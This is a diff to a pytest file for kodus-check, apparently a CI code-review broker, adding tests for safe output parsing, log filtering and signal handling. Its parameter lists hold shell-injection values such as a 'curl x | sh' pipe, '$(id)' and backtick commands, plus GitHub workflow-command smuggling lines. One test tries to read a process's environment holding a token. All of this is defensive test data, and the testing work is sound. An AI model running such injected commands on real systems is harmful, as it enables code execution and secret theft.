@@ -5,6 +5,7 @@ import os
 import re
 import subprocess
 import sys
+import time
 from collections.abc import Iterator, Mapping
 from pathlib import Path
 
@@ -14,13 +15,15 @@ import yaml
 from kodus_check import broker
 from kodus_check.agent.models import PROVIDERS
 from kodus_check.app import Place, check
-from kodus_check.broker import child, inputs, user
+from kodus_check.broker import child, inputs, log, user
 from kodus_check.broker.environment import ALLOWED, MODEL_KEYS, REPLACED, TOKENS, review_environment
-from kodus_check.broker.handover import MAX_OUTPUTS, MAX_VALUE, OUTPUTS, Spool, hand_over, parse_outputs, spool, temporary_folder
+from kodus_check.broker.handover import MAX_OUTPUTS, OUTPUTS, Spool, hand_over, parse_outputs, spool, temporary_folder
 from kodus_check.broker.inputs import TABLE, Call, Kind, Report, call_of, variable
+from kodus_check.broker.log import MAX_LINE, harmless
 from kodus_check.broker.placing import place, refuse_links
 from kodus_check.errors import CannotReview, UsageError
 from kodus_check.reports.annotations import append_outputs
+from tests.image.runner_sim import Command, parse_command
 from tests.repo import Repo
 
 ROOT = Path(__file__).parents[1]
@@ -232,6 +235,14 @@ def test_a_child_that_is_not_the_review_user_reviews_nothing() -> None:
     assert (done.returncode, done.stdout) == (3, "")
 
 
+@pytest.mark.parametrize("fault", ["child.hide_from_siblings = None", "sys.modules['kodus_check.cli'] = None"])
+def test_a_defect_of_the_child_is_not_a_finding(fault: str) -> None:
+    """T3 of the child."""
+    done = _python(f"import sys; from kodus_check.broker import child; sys.argv = ['x', 'demo']; {fault}; child.main()")
+    assert "this is a defect of kodus-check" in done.stderr
+    assert done.returncode == 3
+
+
 @as_root
 @pytest.mark.parametrize("closed", [".", ".git", ".git/objects", ".git/HEAD"])
 def test_a_checkout_that_cannot_be_read_is_said(repo: Repo, closed: str) -> None:
@@ -337,6 +348,23 @@ def test_what_the_review_left_reaches_the_runner(spooled: Spool, tmp_path: Path)
     assert (tmp_path / "summary").read_text() == "## fine\n"
 
 
+@pytest.mark.parametrize("ended", [-9, -15])
+def test_a_review_that_a_signal_ended_has_failed_whatever_it_said(spooled: Spool, tmp_path: Path, ended: int) -> None:
+    """T6 of the hand-over."""
+    (spooled.out / "outputs").write_text("outcome=clean\n")
+    assert _told(spooled, tmp_path, code=ended, reports=()) == {"outcome": "failed"}
+
+
+def test_a_hand_over_that_fails_is_no_success(spooled: Spool, tmp_path: Path) -> None:
+    """T6 of the hand-over."""
+    (spooled.out / "outputs").write_text("outcome=clean\nfindings=0\n")
+    (spooled.out / "report.json").symlink_to("/etc/hostname")
+    with pytest.raises(CannotReview):
+        _told(spooled, tmp_path)
+    assert "\nfailed\n" in (tmp_path / "output").read_text()
+    assert "clean" not in (tmp_path / "output").read_text()
+
+
 def test_a_review_that_was_ended_has_failed(spooled: Spool, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert _told(spooled, tmp_path, code=3) == {"outcome": "failed"}
     assert "no report for `review-file`" in capsys.readouterr().err
@@ -394,8 +422,8 @@ def test_too_much_is_refused(spooled: Spool, tmp_path: Path) -> None:
         ("", {}),
         ("outcome=clean\n\ncost=0.01\n", {"outcome": "clean", "cost": "0.01"}),
         ("coverage<<E\n1/2\nE\ntokens=12\n", {"coverage": "1/2", "tokens": "12"}),
-        ("findings=a<<b\n", {"findings": "a<<b"}),
-        ("outcome=\n", {"outcome": ""}),
+        ("outcome=partial\ncost=1E-7\n", {"outcome": "partial", "cost": "1E-7"}),
+        ("tokens=\ncost=\n", {"tokens": "", "cost": ""}),
     ],
 )
 def test_outputs_are_read(text: str, values: dict[str, str]) -> None:
@@ -415,7 +443,14 @@ def test_outputs_are_read(text: str, values: dict[str, str]) -> None:
         "=clean\n",
         "outcome=a\x1bb\n",
         "outcome=a\rb\n",
-        f"outcome={'x' * (MAX_VALUE + 1)}\n",
+        "outcome=\n",
+        'outcome=clean"; curl x | sh #\n',  # a workflow may paste an output into a shell
+        "findings=$(id)\n",
+        "findings=a<<b\n",
+        "coverage=1/2;id\n",
+        "cost=`id`\n",
+        f"findings={'1' * 13}\n",
+        "tokens=\u0661\n",  # a digit, but not one of ours
     ],
 )
 def test_strange_outputs_are_refused(text: str) -> None:
@@ -514,7 +549,7 @@ def test_a_review_that_is_killed_is_not_a_success(
     """T3 of the broker."""
     monkeypatch.setattr(broker, "_vector", lambda arguments: [sys.executable, "-c", "import os; os.kill(os.getpid(), 9)"])
     assert broker.action(job) == 3
-    assert "the review was ended by SIGKILL" in capfd.readouterr().err
+    assert "the review was ended by Killed (signal 9)" in capfd.readouterr().err
     assert "\nfailed\n" in (tmp_path / "output").read_text()
 
 
@@ -569,6 +604,79 @@ def test_a_defect_is_not_a_finding(monkeypatch: pytest.MonkeyPatch, capsys: pyte
         broker.main()
     assert ended.value.code == 3
     assert "this is a defect of kodus-check" in capsys.readouterr().err
+
+
+def test_the_broker_is_closed_to_a_review_of_the_same_user() -> None:
+    """T2 of the broker, where it was not started as root."""
+    done = _python(
+        "import os, subprocess\nfrom kodus_check import broker\n"
+        "if os.geteuid() == 0: os.setresuid(60001, 60001, 60001)\n"
+        "__import__('ctypes').CDLL(None).prctl(4, 1, 0, 0, 0)\n"  # as after the start of a new program
+        "broker.action = lambda environ: subprocess.run(['cat', f'/proc/{os.getpid()}/environ']).returncode\n"
+        "import sys; sys.argv = ['x']; broker.main()",
+        env={"PATH": os.environ["PATH"], "GITHUB_ACTIONS": "true", "ACTIONS_RUNTIME_TOKEN": "secret"},
+    )
+    assert "Permission denied" in done.stderr
+    assert (done.stdout, done.returncode) == ("", 1)
+
+
+# --- the log -------------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["", "text", "a ::set-output name=x::y", "::error file=a,line=2::b", "::warning::x", "::group::x", "::endgroup::", "  ::notice::é"],
+)
+def test_text_and_annotations_pass(line: str) -> None:
+    assert harmless(line) == line
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "::set-output name=outcome::clean",
+        "  ::SET-OUTPUT name=outcome::clean",
+        "\u00a0\ufeff::save-state name=a::b",
+        "::add-mask::a",
+        "::stop-commands::a",
+        "::add-matcher::x.json",
+        "::errors::x",
+        "::error",
+        "text ##[add-mask]x",
+        "::error::##[add-mask]x",
+    ],
+)
+def test_no_other_command_passes(line: str) -> None:
+    """T1 of the log."""
+    assert parse_command(harmless(line)) in (None, Command("error", {}, "##\\[add-mask]x"))
+    assert harmless(line).replace("\\", "") == line
+
+
+PRINTS = """
+import os, sys
+os.write(1, b"\\xff\\xfe::add-mask::a\\rb\\r::set-output name=outcome::clean\\r\\nfirst\\n::error::fine\\n")
+os.write(2, b"::set-out"); os.write(2, b"put name=outcome::clean\\nno end")
+os.write(1, b"x" * 3_000_000 + b"##[add-mask]a")
+if os.fork() == 0:
+    os.setsid(); import time; time.sleep(30)
+"""
+
+
+def test_the_log_goes_through_the_broker(
+    job: dict[str, str], monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
+) -> None:
+    """T1 to T3 of the log, T4 of the broker; what outlives the review holds nothing up."""
+    monkeypatch.setattr(broker, "_vector", lambda arguments: [sys.executable, "-I", "-c", PRINTS])
+    monkeypatch.setattr(log, "GRACE_SECONDS", 1.0)
+    started = time.monotonic()
+    assert broker.action(job) == 0
+    assert time.monotonic() - started < 20
+    out, err = capfd.readouterr()
+    assert out.startswith("\N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}::add-mask::a\nb\n\\::set-output name=outcome::clean\nfirst\n::error::fine\n")
+    assert [found.name for line in f"{out}\n{err}".splitlines() if (found := parse_command(line))] == ["error"]
+    assert out.count("x" * 1_000) >= 2_900
+    assert max(map(len, out.splitlines())) < MAX_LINE + (1 << 17)
+    assert err.startswith("\\::set-output name=outcome::clean\n")
 
 
 def test_a_call_is_a_value() -> None:
